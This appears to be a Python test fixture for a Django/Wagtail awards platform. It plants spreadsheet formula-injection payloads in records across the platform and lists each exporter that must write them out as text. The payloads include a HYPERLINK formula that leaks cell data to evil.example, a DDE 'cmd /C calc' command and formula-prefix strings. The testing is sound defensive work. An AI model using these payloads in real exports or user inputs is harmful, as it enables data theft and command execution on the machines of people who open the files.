"""The hostile world of the spreadsheet-injection tests (test_export_injection.py) and every
exporter of the platform, with the hostile texts and the numbers each file must carry."""

from dataclasses import dataclass, field
from pathlib import Path

from django.contrib.auth import get_user_model
from django.utils import timezone
from wagtail.contrib.redirects.models import Redirect
from wagtail.models import Page, Workflow

from cms.choices import SubscriptionStatus
from cms.models import EnquiryFormPage, NewsArticlePage, NewsIndexPage, PledgeSignature, Subscriber
from judging.models import CriterionScore, Round, Scoresheet, ScoresheetStatus
from nominations.choices import NominationStatus
from nominations.models import AwardCycle, Category, Nomination
from tests.factories.cms import OpenLetterSignatureFactory, PledgeSignatureFactory

HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"Open the form")'
DDE = "=cmd|' /C calc'!A0"
EQUALS = "=1+1"
PLUS = "+1+1"
MINUS = "-2+3"
AT = "@SUM(1)"
TAB = "\t=1"
CR = "\r=1"
PHONE = "+254712345678"  # a real number: text, never the number 254712345678 or a formula
NPS = -20  # a number that starts with "-": it stays a number


@dataclass
class Export:
    name: str
    url: str
    user: str | None  # who downloads it (None: the URL is set up by the world)
    payloads: tuple  # hostile texts this file must hold, as text
    numbers: tuple = ()  # values this file must hold as numbers
    content: bytes = b""
    path: Path | None = None
    office: dict = field(default_factory=dict)  # LibreOffice's reading

    @property
    def is_csv(self):
        return "export=csv" in self.url


ADMIN = "admin@demo.test"
SPONSOR = "sponsor@demo.test"
NOMINATION_TEXT = (HYPERLINK, AT, TAB)  # organisation, city, initiative (no contact details)


def _with_formats(name, url, user, payloads, numbers=()):
    separator = "&" if "?" in url else "?"
    return [
        Export(f"{name} (xlsx)", f"{url}{separator}export=xlsx", user, payloads, numbers),
        Export(f"{name} (CSV)", f"{url}{separator}export=csv", user, payloads, numbers),
    ]


def exports_of(world):
    """Every exporter of the platform, with what it must carry."""
    return [
        Export(
            "sponsor workbook",
            f"/sponsors/CX27/{world.digital.pk}/report.xlsx",
            SPONSOR,
            (HYPERLINK, AT),  # organisation, category name; never contact details
            (world.sent_in_digital,),  # the count of nominations, a number
        ),
        Export(
            "sponsor workbook with published results",
            "/sponsors/CX26/report.xlsx",
            SPONSOR,
            (EQUALS,),  # a category's name, in the summary and the Results sheet
        ),
        Export(
            "cycle report (administrators)",
            f"/admin/cycle-reports/{world.cycle.pk}/report.xlsx",
            ADMIN,
            (HYPERLINK, PLUS, MINUS, AT, PHONE),  # organisation, contact, job title, phone
            (world.sent,),
        ),
        Export(
            "judging results export",
            f"/admin/judging/results/{world.round.pk}/export.xlsx",
            ADMIN,
            (HYPERLINK, DDE, AT, CR),  # organisation, judge's name, comments
            (world.score,),
        ),
        *_with_formats("nominations list", "/admin/nomination/", ADMIN, NOMINATION_TEXT, (NPS,)),
        *_with_formats(
            "letter co-signatures", "/admin/snippets/cms/openlettersignature/", ADMIN, (DDE, PLUS)
        ),
        *_with_formats(
            "pledge signatures", "/admin/snippets/cms/pledgesignature/", ADMIN, (EQUALS, AT)
        ),
        *_with_formats("translation report", "/admin/reports/translations/", ADMIN, (HYPERLINK,)),
        *_with_formats(
            "translations awaiting review", "/admin/reports/translations-to-review/", ADMIN, ()
        ),
        *_with_formats("resource downloads", "/admin/reports/resource-downloads/", ADMIN, ()),
        # Campaign names and sources cannot hold hostile text (awards_site/reach/cleaning.py).
        *_with_formats("campaign reach", "/admin/reports/campaign-reach/", ADMIN, ()),
        *_with_formats("locked pages report", "/admin/reports/locked/", ADMIN, (HYPERLINK,)),
        *_with_formats("aging pages report", "/admin/reports/aging-pages/", ADMIN, (HYPERLINK,)),
        *_with_formats("site history report", "/admin/reports/site-history/", ADMIN, (HYPERLINK,)),
        *_with_formats("workflows report", "/admin/reports/workflow/", ADMIN, (HYPERLINK,)),
        *_with_formats(
            "workflow tasks report", "/admin/reports/workflow_tasks/", ADMIN, (HYPERLINK,)
        ),
        *_with_formats("redirects", "/admin/redirects/", ADMIN, (HYPERLINK,)),
        *_with_formats("news subscribers", "/admin/news_subscribers/", ADMIN, (HYPERLINK,)),
        *_with_formats(
            "enquiries (form submissions)",
            f"/admin/forms/submissions/{world.enquiry_page.pk}/",
            ADMIN,
            (HYPERLINK, PLUS, MINUS, AT, PHONE),
        ),
    ]


# The hostile world ---------------------------------------------------------------------------


class World:
    pass


def hostile_world(client):
    User = get_user_model()
    admin = User.objects.get(email=ADMIN)
    world = World()

    # Nominators: every sent nomination of the current cycle, with a number starting with "-".
    world.cycle = AwardCycle.objects.get(code="CX27")
    sent = Nomination.objects.filter(cycle=world.cycle).exclude(status=NominationStatus.DRAFT)
    sent.update(
        organisation_name=HYPERLINK,
        contact_name=PLUS,
        contact_role=MINUS,
        city=AT,
        initiative_title=TAB,
        contact_phone=PHONE,
        nps_before=NPS,
    )
    world.sent = sent.count()
    world.digital = Category.objects.get(cycle=world.cycle, name_en="Digital public service")
    world.sent_in_digital = sent.filter(category=world.digital).count()
    world.digital.name_en = AT
    world.digital.save()
    Category.objects.filter(cycle__code="CX26").update(name_en=EQUALS)

    # A judge: their name, and their comments on the entries of the current round.
    world.round = Round.objects.get(cycle=world.cycle)
    sheets = Scoresheet.objects.filter(
        assignment__round=world.round, status=ScoresheetStatus.SUBMITTED
    )
    sheets.update(overall_comment=CR)
    CriterionScore.objects.filter(scoresheet__in=sheets).update(comment=AT)
    judge = sheets.first().assignment.judge.user
    judge.first_name, judge.last_name = DDE, ""
    judge.save()
    world.score = CriterionScore.objects.filter(scoresheet__in=sheets).first().score

    # Signatories of the open letter and the pledge (public forms).
    key = Page.objects.filter(depth=2).first().translation_key
    OpenLetterSignatureFactory(
        page_key=key, name=DDE, organisation=PLUS, country="KE", email="dde@example.org"
    )
    PledgeSignatureFactory(
        page_key=key,
        name=EQUALS,
        organisation=AT,
        country="GH",
        email="at@example.org",
        kind=PledgeSignature._meta.get_field("kind").choices[0][0],
    )

    # An editor's page: locked, in a workflow, out of date in French, in the site's history.
    news = NewsIndexPage.objects.get(slug="news", locale__language_code="en")
    article = news.add_child(
        instance=NewsArticlePage(
            title=HYPERLINK, slug="hostile-title", date="2026-02-01", intro="Intro."
        )
    )
    article.save_revision(user=admin).publish(user=admin)
    article = Page.objects.get(pk=article.pk)
    Workflow.objects.get(name="Moderators approval").start(article.specific, admin)
    Page.objects.filter(pk=article.pk).update(
        locked=True, locked_by=admin, locked_at=timezone.now()
    )

    # A news subscriber (the consent's wording is stored text, exported as it is).
    Subscriber.objects.create(
        email="hostile.reader@example.org",
        language="en",
        status=SubscriptionStatus.CONFIRMED,
        consent_wording=HYPERLINK,
        confirmed_at=timezone.now(),
    )

    # A redirect whose target someone typed.
    Redirect.objects.create(old_path="/old-hostile", redirect_link=HYPERLINK)

    # A visitor's enquiry: the phone field takes only phone numbers.
    world.enquiry_page = EnquiryFormPage.objects.get(
        slug="become-a-partner", locale__language_code="en"
    )
    url = world.enquiry_page.url
    form = {
        "full_name": PLUS,
        "organisation": HYPERLINK,
        "email_address": "visitor@example.org",
        "phone_number": MINUS,
        "type_of_enquiry": "Sponsorship",
        "message": AT,
    }
    refused = client.post(url, form)
    assert "Enter a phone number with its country code" in refused.content.decode()
    accepted = client.post(url, {**form, "phone_number": "+254 712 345678"})
    assert "Thank you for your enquiry." in accepted.content.decode()
    # "-2+3" goes in the message instead (a form strips a leading carriage return or tab).
    client.post(url, {**form, "phone_number": "", "message": MINUS})
    return world


class StubWorld:
    """Stands for the world where only its ids matter (names and addresses of the exports)."""

    digital = cycle = round = enquiry_page = type("Pk", (), {"pk": 7})()
    score = sent = sent_in_digital = 0


def export_names():
    return [export.name for export in exports_of(StubWorld())]
